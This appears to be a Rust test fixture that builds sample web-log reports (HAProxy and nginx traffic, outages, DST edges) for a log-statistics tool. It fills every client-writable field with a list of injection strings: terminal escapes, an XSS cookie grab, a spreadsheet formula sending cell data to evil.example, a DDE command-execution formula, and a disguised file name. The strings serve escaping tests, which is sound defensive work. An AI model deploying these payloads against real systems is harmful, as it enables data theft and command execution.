//! Sample reports for the tests: simulated requests, counted exactly. Every run gives the same ones.
#![allow(dead_code, reason = "each test binary uses its own part of the samples")]

mod bans;
mod count;
mod requests;

use logstat_reports::model::{
    Accounting, By, EventRow, Figures, FileSummary, Group, Heat, HourRow, Place, RejectSummary, Report,
    ServerAvailability, ServerState, SourceSummary, StateInterval, Step, Timing, TopList, TopRow,
};

pub use self::bans::*;
use self::count::{figures, group_rows, heat, hour_rows, without_parts};
use self::requests::{Dice, Hit, shop_hits, web_hit};

/// 2026-11-19T00:00:00Z, a Thursday.
pub const MIDNIGHT: i64 = 1_795_046_400;

/// Strings that try to get out of a terminal, a page, a spreadsheet or a column.
pub const HOSTILE: [&str; 8] = [
    "\u{1b}[2J\u{1b}]0;owned\u{7}/cleared",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "<script>alert(document.cookie)</script>",
    "/invoice\u{202e}gpj.exe",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "/\u{200b}zero\u{feff}width/\u{85}next-line",
    "/search?q=日本語のとても長い検索語とそのほかの言葉",
    "line\r\none;=1+1\ttab",
];

/// A working day of a shop: HAProxy in front of three nginx servers, a gap from 03:00 to 06:00 UTC, an incident at
/// 14:00 UTC, hostile strings in every place that a client can write to.
pub fn day() -> Report {
    let hits = shop_hits();
    let edge: Vec<&Hit> = hits.iter().filter(|hit| hit.group.source == "edge").collect();
    let all: Vec<&Hit> = hits.iter().collect();
    let accounting = day_accounting(&hits);
    Report {
        version: "0.1.0".into(),
        since: MIDNIGHT,
        until: MIDNIGHT + 86_400,
        step: Step::Hour,
        gaps: Vec::new(),
        timezone: "Europe/Berlin".into(),
        by: vec![By::Site, By::Server],
        sources: day_sources(&hits, &accounting),
        accounting,
        totals: without_parts(figures(&edge, 86_400)),
        clients_error: 0.016,
        hours: hour_rows(&all, |g| Group {
            source: g.source.clone(),
            site: g.site.clone(),
            server: g.server.clone(),
            ..Group::default()
        }),
        hour_totals: hour_rows(&edge, |_| Group::default()),
        by_source: group_rows(&all, |g| Group { source: g.source.clone(), ..Group::default() }),
        by_site: group_rows(&edge, |g| Group { site: g.site.clone(), ..Group::default() }),
        by_backend: group_rows(&edge, |g| Group { backend: g.backend.clone(), ..Group::default() }),
        by_server: group_rows(&edge, server_only),
        server_hours: hour_rows(&edge, server_only),
        top: day_top(),
        heat: heat(&edge),
        events: day_events(),
        events_left_out: 0,
        availability: day_availability(),
        availability_left_out: 3,
        bans: Some(bans(MIDNIGHT, Step::Hour, 24)),
        duplicates_skipped: 2,
        notes: vec![
            "web: no upstream times: the format has no $upstream_response_time".into(),
            format!("edge: 4 lines were cut at 1024 bytes by the sender, the first begins {}", HOSTILE[0]),
        ],
    }
}

/// One nginx log in the combined format: no times, one source, nothing to compare.
pub fn combined() -> Report {
    let mut dice = Dice(7);
    let hits: Vec<Hit> = (0..3 * 3600)
        .filter(|_| dice.below(5) == 0)
        .map(|second| Hit {
            latency_us: 0,
            proxy: None,
            ..web_hit(&mut Dice(second), MIDNIGHT + second as i64, 1)
        })
        .collect();
    let all: Vec<&Hit> = hits.iter().collect();
    let timeless = |mut row: HourRow| {
        row.figures.latency = Timing::default();
        row
    };
    let mut totals = without_parts(figures(&all, 3 * 3600));
    totals.latency = Timing::default();
    let records = hits.len() as u64;
    let accounting = Accounting { lines: records, records, ..Accounting::default() };
    Report {
        version: "0.1.0".into(),
        since: MIDNIGHT,
        until: MIDNIGHT + 3 * 3600,
        timezone: "UTC".into(),
        sources: vec![source("access.log", "combined", 1, accounting.clone())],
        accounting,
        totals,
        clients_error: 0.016,
        hours: hour_rows(&all, |_| Group { source: "access.log".into(), ..Group::default() })
            .into_iter()
            .map(timeless)
            .collect(),
        hour_totals: hour_rows(&all, |_| Group::default()).into_iter().map(timeless).collect(),
        notes: vec!["access.log: no latency: the format has no time; see --format".into()],
        ..Report::default()
    }
}

/// The night of 25 October 2026 in Berlin: 02:00 comes twice.
pub fn dst_night() -> Report {
    let since = 1_792_872_000; // 2026-10-24T20:00:00Z
    flat(since, 8, "Europe/Berlin")
}

/// A fortnight without incident, but a day and a half are missing.
pub fn fortnight() -> Report {
    let mut report = flat(MIDNIGHT - 14 * 86_400, 14 * 24, "Europe/Berlin");
    report.hour_totals.retain(|row| !(60..96).contains(&((row.hour - report.since) / 3600)));
    report.hours.retain(|row| !(60..96).contains(&((row.hour - report.since) / 3600)));
    report
}

/// Some days of a growing shop, as a state keeps them, in every zone those of UTC; a week is missing, and the last day
/// has just begun.
pub fn days(days: i64) -> Report {
    let since = MIDNIGHT - days * 86_400;
    let row = |nth: i64| one_day(since + nth * 86_400, nth);
    let mut rows: Vec<HourRow> = (0..days).map(row).collect();
    rows.retain(|row| days < 20 || !(10..17).contains(&((row.hour - since) / 86_400)));
    if let Some(last) = rows.last_mut() {
        last.figures = day_figures(last.hour, 90);
        (last.figures.covered_s, last.figures.rps_mean) = (1, 90.0);
        (last.figures.rps_peak, last.figures.rps_peak_at) = (90, Some(last.hour));
    }
    let records = rows.iter().map(|row| row.figures.requests).sum();
    let accounting = Accounting { lines: records, records, ..Accounting::default() };
    let covered_s = (days - 1) * 86_400 + 1;
    let totals = Figures {
        requests: records,
        covered_s: covered_s.unsigned_abs(),
        rps_mean: records as f64 / covered_s as f64,
        status_codes: vec![(200, records)],
        ..rows
            .iter()
            .max_by_key(|row| row.figures.rps_peak)
            .map(|row| row.figures.clone())
            .unwrap_or_default()
    };
    let cells = rows
        .iter()
        .map(|row| vec![row.figures.requests / 9, row.figures.requests / 2, row.figures.requests / 90]);
    Report {
        version: "0.1.0".into(),
        since,
        until: since + covered_s,
        step: Step::Day,
        timezone: "Europe/Berlin".into(),
        sources: vec![SourceSummary {
            format_from: "stored".into(),
            ..source("web", "combined", 0, accounting.clone())
        }],
        accounting,
        totals,
        heat: Heat {
            hours: rows.iter().map(|row| row.hour).collect(),
            bounds_ms: vec![10.0, 100.0],
            cells: cells.collect(),
        },
        hours: rows
            .iter()
            .map(|row| HourRow { group: Group { source: "web".into(), ..Group::default() }, ..row.clone() })
            .collect(),
        hour_totals: rows,
        ..Report::default()
    }
}

fn one_day(start: i64, nth: i64) -> HourRow {
    let weekend = nth.rem_euclid(7) > 4;
    let requests = (400_000 + 900 * nth) / if weekend { 3 } else { 1 } + nth * 7919 % 40_000;
    HourRow { hour: start, figures: day_figures(start, requests.unsigned_abs()), ..HourRow::default() }
}

fn day_figures(start: i64, requests: u64) -> Figures {
    let nth = start / 86_400;
    let ms = |least: f64| Some(least + (nth * 31 % 11) as f64 * least / 30.0);
    let latency =
        Timing { n: requests, p50_ms: ms(18.0), p95_ms: ms(140.0), p99_ms: ms(610.0), ..Timing::default() };
    Figures {
        requests,
        covered_s: 86_400,
        rps_mean: requests as f64 / 86_400.0,
        rps_peak: requests / 4000,
        rps_peak_at: Some(start + 50_000 + nth),
        status_2xx: requests - requests / 40 - requests / 300,
        status_4xx: requests / 40,
        status_5xx: requests / 300,
        bytes_sent: Some(requests * 23_000),
        latency,
        clients: Some(requests / 60),
        status_codes: vec![(200, requests)],
        ..Figures::default()
    }
}

/// A window in which nothing was logged.
pub fn nothing() -> Report {
    Report {
        version: "0.1.0".into(),
        since: MIDNIGHT,
        until: MIDNIGHT + 3600,
        timezone: "UTC".into(),
        sources: vec![source("access.log", "combined", 1, Accounting::default())],
        notes: vec!["newest line 2026-11-18 09:12: try --until newest".into()],
        ..Report::default()
    }
}

/// [`day`] with every name and value that a client could have written replaced by `hostile`.
pub fn infested(hostile: &str) -> Report {
    let mut report = day();
    infest_report(&mut report, hostile);
    report
}

/// Puts `hostile` into every place of the report that a client could have written to.
pub fn infest_report(report: &mut Report, hostile: &str) {
    let groups = report.hours.iter_mut().chain(&mut report.hour_totals).chain(&mut report.server_hours);
    for row in groups {
        infest(&mut row.group, &mut row.figures, hostile);
    }
    let tables = [&mut report.by_source, &mut report.by_site, &mut report.by_backend, &mut report.by_server];
    for row in tables.into_iter().flatten() {
        infest(&mut row.group, &mut row.figures, hostile);
    }
    for list in &mut report.top {
        list.source = hostile.into();
        list.rows.iter_mut().for_each(|row| row.value = hostile.into());
    }
    for event in &mut report.events {
        event.message = hostile.into();
        event.source = hostile.into();
    }
    for row in &mut report.availability {
        // As long as a name is shown, so that every chart has the same room.
        (row.source, row.backend) = (hostile.into(), format!("{hostile}{}", "-".repeat(24)));
        row.server = row.server.as_ref().map(|_| hostile.into());
        row.last_reason = Some(hostile.into());
        row.intervals.iter_mut().for_each(|interval| interval.reason = Some(hostile.into()));
    }
    for source in &mut report.sources {
        source.name = hostile.into();
        source.format = hostile.into();
        source.files.iter_mut().for_each(|file| file.path = hostile.into());
        infest_rejects(&mut source.accounting, hostile);
    }
    infest_rejects(&mut report.accounting, hostile);
    infest(&mut Group::default(), &mut report.totals, hostile);
    report.notes.iter_mut().for_each(|note| *note = hostile.into());
}

fn infest(group: &mut Group, figures: &mut Figures, hostile: &str) {
    group.source = hostile.into();
    let parts = [
        &mut group.site,
        &mut group.backend,
        &mut group.server,
        &mut group.tier,
        &mut group.node,
        &mut group.method,
    ];
    for part in parts {
        *part = Some(hostile.into());
    }
    figures.terminations.push((hostile.into(), 1));
    figures.cache_states.push((hostile.into(), 1));
}

fn infest_rejects(accounting: &mut Accounting, hostile: &str) {
    for kind in &mut accounting.reject_kinds {
        for place in &mut kind.first {
            place.file = hostile.into();
            place.excerpt = hostile.into();
        }
    }
}

fn server_only(group: &Group) -> Group {
    Group { backend: group.backend.clone(), server: group.server.clone(), ..Group::default() }
}

/// `hours` hours of even traffic.
fn flat(since: i64, hours: i64, timezone: &str) -> Report {
    let mut dice = Dice(11);
    let hits: Vec<Hit> = (0..hours * 60)
        .flat_map(|minute| {
            let busy = if minute / 60 % 24 < 6 { 1 } else { 3 };
            (0..busy).map(|_| web_hit(&mut dice, since + minute * 60, 20)).collect::<Vec<_>>()
        })
        .collect();
    let all: Vec<&Hit> = hits.iter().collect();
    let records = hits.iter().map(|hit| hit.weight).sum();
    let accounting = Accounting { lines: records, records, ..Accounting::default() };
    Report {
        version: "0.1.0".into(),
        since,
        until: since + hours * 3600,
        timezone: timezone.into(),
        sources: vec![source("web", "combined with $request_time", 3, accounting.clone())],
        accounting,
        totals: without_parts(figures(&all, hours.unsigned_abs() * 3600)),
        clients_error: 0.016,
        hours: hour_rows(&all, |_| Group { source: "web".into(), ..Group::default() }),
        hour_totals: hour_rows(&all, |_| Group::default()),
        heat: heat(&all),
        ..Report::default()
    }
}

fn source(name: &str, format: &str, files: u64, accounting: Accounting) -> SourceSummary {
    let path =
        |n: u64| if n == 0 { format!("/var/log/{name}.log") } else { format!("/var/log/{name}.log.{n}.gz") };
    SourceSummary {
        name: name.into(),
        format: format.into(),
        format_from: "detected".into(),
        tier: None,
        node: None,
        files: (0..files)
            .map(|n| FileSummary {
                path: path(n),
                bytes: accounting.lines * 240 / files,
                lines: accounting.lines / files,
                formats: Vec::new(),
                skipped: (n == 2).then(|| "newest line 2026-11-18 23:59:58 is before the window".into()),
            })
            .collect(),
        accounting,
    }
}

fn day_accounting(hits: &[Hit]) -> Accounting {
    let records = hits.iter().map(|hit| hit.weight).sum::<u64>() + 312;
    let place = |line, byte, excerpt: &str| Place {
        file: "/var/log/edge.log".into(),
        line,
        byte,
        excerpt: excerpt.into(),
    };
    Accounting {
        lines: records + 4 + 57 + 1,
        records,
        outside_window: 310,
        future: 2,
        events: 4,
        rejects: 57,
        blank: 1,
        truncated: 4,
        nul_bytes: 4096,
        reject_kinds: vec![
            RejectSummary {
                kind: "shape".into(),
                explain: "the line does not have the shape of the format".into(),
                count: 45,
                first: vec![
                    place(412, 31, HOSTILE[0]),
                    place(
                        413,
                        1,
                        "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03 and so on for quite a while",
                    ),
                    place(99_120, 7, HOSTILE[3]),
                ],
            },
            RejectSummary {
                kind: "date".into(),
                explain: "the date cannot be read".into(),
                count: 12,
                first: vec![place(
                    1_200_331,
                    18,
                    "10.0.0.9:3321 [32/Nov/2026:14:03:07.123] fe~ web/nginx1 0/0/1/9/10",
                )],
            },
        ],
    }
}

fn day_sources(hits: &[Hit], total: &Accounting) -> Vec<SourceSummary> {
    let web = hits.iter().filter(|hit| hit.group.source == "web").map(|hit| hit.weight).sum::<u64>();
    let edge = Accounting { lines: total.lines - web, records: total.records - web, ..total.clone() };
    let web = Accounting { lines: web, records: web, ..Accounting::default() };
    let format =
        "$remote_addr - $remote_user [$time_local] \"$request\" $status $body_bytes_sent $request_time";
    let tier = |tier: &str, source| SourceSummary { tier: Some(tier.into()), ..source };
    vec![tier("edge", source("edge", "haproxy-http", 3, edge)), tier("web", source("web", format, 2, web))]
}

fn row(value: &str, requests: u64, error: u64, p95_ms: Option<f64>) -> TopRow {
    TopRow {
        value: value.into(),
        requests,
        error,
        bytes_sent: Some(requests * 18_331),
        latency_p95_ms: p95_ms,
    }
}

fn day_top() -> Vec<TopList> {
    let list = |list: &str, rows: Vec<TopRow>| TopList { list: list.into(), source: "edge".into(), rows };
    let long = format!("/search?q={}&utm_source=newsletter", "a-very-long-value-".repeat(40));
    let hostile =
        |from: u64| HOSTILE.iter().zip(0..).map(move |(value, n)| row(value, from - n, n % 3, Some(3.0)));
    let mut paths = vec![
        row("/", 212_004, 0, Some(23.0)),
        row("/basket", 98_120, 0, Some(84.5)),
        row(&long, 20_119, 12, Some(1_312.0)),
        row("/static/js/app.4f2a9c.js", 19_004, 0, Some(1.0)),
    ];
    paths.extend(hostile(900));
    let mut agents = vec![
        row(
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
            401_332,
            0,
            None,
        ),
        row("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 51_002, 0, None),
        row("curl/8.5.0", 812, 0, None),
    ];
    agents.extend(hostile(100));
    vec![
        list(
            "clients",
            vec![
                row("203.0.113.9", 41_209, 0, None),
                row("2001:db8:85a3:8d3:1319:8a2e:370:7348", 20_311, 31, None),
                row("198.51.100.77", 12_001, 31, None),
            ],
        ),
        list("paths", paths),
        list(
            "slow_paths",
            vec![row("/report/export", 45, 0, Some(9_800.0)), row("/basket/checkout", 9_001, 0, Some(640.0))],
        ),
        list(
            "referrers",
            vec![
                row("https://www.example.org/a/page?with=query", 8_012, 0, None),
                row(HOSTILE[1], 12, 0, None),
            ],
        ),
        list("user_agents", agents),
        list("error_paths", vec![row("/basket/checkout", 2_112, 0, Some(12.0))]),
        list("not_found", vec![row("/wp-login.php", 9_122, 4, None), row("/.env", 3_003, 4, None)]),
    ]
}

fn day_events() -> Vec<EventRow> {
    let event = |at, kind: &str, message: &str| EventRow {
        at: Some(MIDNIGHT + at),
        source: "edge".into(),
        kind: kind.into(),
        message: message.into(),
    };
    vec![
        event(
            50_412,
            "server_down",
            "Server web/nginx3 is DOWN, reason: Layer4 connection problem, info: \"Connection refused\", check duration: 0ms. 2 active and 0 backup servers left. 12 sessions active, 0 requeued, 0 remaining in queue.",
        ),
        event(
            50_930,
            "health_check",
            "Health check for server web/nginx3 succeeded, reason: Layer4 check passed, check duration: 0ms, status: 1/2 DOWN.",
        ),
        event(
            50_932,
            "server_up",
            "Server web/nginx3 is UP, reason: Layer4 check passed, check duration: 0ms. 3 active and 0 backup servers online. 0 sessions requeued, 0 total in queue.",
        ),
        event(51_000, "proxy", &format!("Proxy stats {} stopped (FE: 1 conns, BE: 0 conns).", HOSTILE[0])),
    ]
}

/// A server with these stretches, each up to the next one; the last one ends with the day.
pub fn server(
    backend: &str,
    server: Option<&str>,
    stretches: &[(i64, ServerState, Option<&str>)],
) -> ServerAvailability {
    let ends = stretches.iter().skip(1).map(|stretch| stretch.0).chain([86_400]);
    let intervals: Vec<StateInterval> = stretches
        .iter()
        .zip(ends)
        .map(|(&(from, state, reason), to)| StateInterval {
            state,
            from: MIDNIGHT + from,
            to: MIDNIGHT + to,
            reason: reason.map(str::to_owned),
        })
        .collect();
    let lengths = |state| {
        let of_state = intervals.iter().filter(move |interval| interval.state == state);
        of_state.map(StateInterval::seconds).collect::<Vec<u64>>()
    };
    let seconds = |state| lengths(state).iter().sum::<u64>();
    let downs = lengths(ServerState::Down);
    let (up_s, down_s) = (seconds(ServerState::Up), seconds(ServerState::Down));
    ServerAvailability {
        source: "edge".into(),
        backend: backend.into(),
        server: server.map(str::to_owned),
        availability: (up_s + down_s > 0).then(|| up_s as f64 / (up_s + down_s) as f64),
        known_s: intervals.iter().map(StateInterval::seconds).sum(),
        up_s,
        down_s,
        maintenance_s: seconds(ServerState::Maintenance),
        drain_s: seconds(ServerState::Drain) + seconds(ServerState::Stopping),
        downs: downs.len() as u64,
        longest_down_s: downs.into_iter().max().unwrap_or(0),
        last_reason: intervals
            .iter()
            .rev()
            .find(|interval| interval.state != ServerState::Up)
            .and_then(|interval| interval.reason.clone()),
        intervals,
    }
}

fn day_availability() -> Vec<ServerAvailability> {
    use ServerState::{Down, Drain, Maintenance, Up};
    let reason = format!("Layer7 wrong status, code: 500, info: \"{}\"", HOSTILE[0]);
    vec![
        server("web", None, &[(0, Up, None), (51_000, Down, None), (51_021, Up, None)]),
        server("web", Some("nginx1"), &[(0, Up, None), (50_990, Down, Some(&reason)), (51_021, Up, None)]),
        server(
            "web",
            Some("nginx2"),
            &[(7_200, Maintenance, None), (28_800, Drain, None), (30_000, Up, None)],
        ),
        server(
            "web",
            Some("nginx3"),
            &[(0, Up, None), (50_412, Down, Some("Layer4 connection problem")), (50_932, Up, None)],
        ),
    ]
}
